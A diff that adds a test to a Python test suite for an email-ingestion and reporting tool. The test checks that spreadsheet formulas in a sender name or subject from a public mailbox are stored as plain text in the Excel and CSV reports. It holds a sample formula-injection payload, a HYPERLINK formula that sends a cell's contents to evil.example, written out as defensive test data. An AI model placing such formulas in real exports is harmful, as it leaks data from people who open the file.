@@ -251,3 +251,23 @@ def test_workbook_explains_in_chinese_and_notes_what_stats_flag(campaign, tmp_pa
     assert "太原市科学技术局：统计表经工作人员认定合格，但缺少投入经费，已计入现有数字" in texts
     left = {r[0]: r for r in srows if r and r[0] == "datong-kjj"}
     assert left["datong-kjj"][3] == "未收到统计表"
+
+
+def test_a_senders_formula_stays_text_in_the_workbook_and_the_csv(campaign, tmp_path):
+    """The mailbox is public: a subject or sender name that starts a formula must be shown, never
+    run, when staff open the workbook or the CSV files in Excel or WPS."""
+    evil_subject = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
+    campaign.deliver(build_mail(from_="=1+1 <who@evil.example>", subject=evil_subject))
+    campaign.run("ingest", "--once")
+    book = tmp_path / "r.xlsx"
+    campaign.run("report", "--xlsx", str(book))
+    sheet = openpyxl.load_workbook(book)["未匹配邮件"]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    subject = next(c for c in cells if "HYPERLINK" in c.value)
+    sender = next(c for c in cells if "who@evil.example" in c.value)
+    assert (subject.value, subject.data_type) == (evil_subject, "s")
+    assert sender.value.startswith("=1+1") and sender.data_type == "s"
+    out = tmp_path / "csv"
+    campaign.run("report", "--csv", str(out))
+    rows = list(csv.reader((out / "未匹配邮件.csv").read_text(encoding="utf-8-sig").splitlines()))
+    assert "'" + evil_subject in rows[1] and rows[1][0].isdigit()
